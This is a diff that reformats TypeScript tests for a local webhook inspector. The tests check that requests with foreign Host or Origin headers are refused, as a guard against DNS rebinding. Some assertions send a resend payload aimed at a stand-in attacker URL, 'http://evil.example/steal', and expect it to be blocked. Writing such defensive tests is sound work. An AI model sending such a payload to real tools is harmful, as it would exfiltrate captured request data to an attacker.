@@ -34,7 +34,22 @@ async function start(host = "127.0.0.1"): Promise<Started> {
 
 function entry(id: number): InspectorEntry {
   const body = '{"type":"track","userId":"u1","event":"Secret Order"}';
-  return { id, kind: "request", receivedAt: new Date(0).toISOString(), method: "POST", path: "/hook", type: "track", user: "u1", size: body.length, verdict: "valid", headers: {}, body, status: 200, answer: "", resends: [] };
+  return {
+    id,
+    kind: "request",
+    receivedAt: new Date(0).toISOString(),
+    method: "POST",
+    path: "/hook",
+    type: "track",
+    user: "u1",
+    size: body.length,
+    verdict: "valid",
+    headers: {},
+    body,
+    status: 200,
+    answer: "",
+    resends: [],
+  };
 }
 
 interface Answer {
@@ -86,7 +101,10 @@ describe("the inspector refuses requests for other host names (DNS rebinding)", 
       const events = await ask(port, "/events", { host });
       expect(events.status, host).toBe(403);
       expect(events.body).not.toContain("Secret Order");
-      expect((await ask(port, RESEND, { host, origin: `http://${host}`, ...resendHeaders }, "POST", '{"url":"http://evil.example/steal","resign":true}')).status, host).toBe(403);
+      expect(
+        (await ask(port, RESEND, { host, origin: `http://${host}`, ...resendHeaders }, "POST", '{"url":"http://evil.example/steal","resign":true}')).status,
+        host,
+      ).toBe(403);
     }
     expect(resends).toEqual([]);
   });
@@ -107,7 +125,9 @@ describe("the inspector refuses requests for other host names (DNS rebinding)", 
       const events = await ask(port, "/events", { host, origin });
       expect(events.status, origin).toBe(403);
       expect(events.body).not.toContain("Secret Order");
-      expect((await ask(port, RESEND, { host, origin, ...resendHeaders }, "POST", '{"url":"http://evil.example/steal","resign":true}')).status, origin).toBe(403);
+      expect((await ask(port, RESEND, { host, origin, ...resendHeaders }, "POST", '{"url":"http://evil.example/steal","resign":true}')).status, origin).toBe(
+        403,
+      );
     }
     expect(resends).toEqual([]);
   });
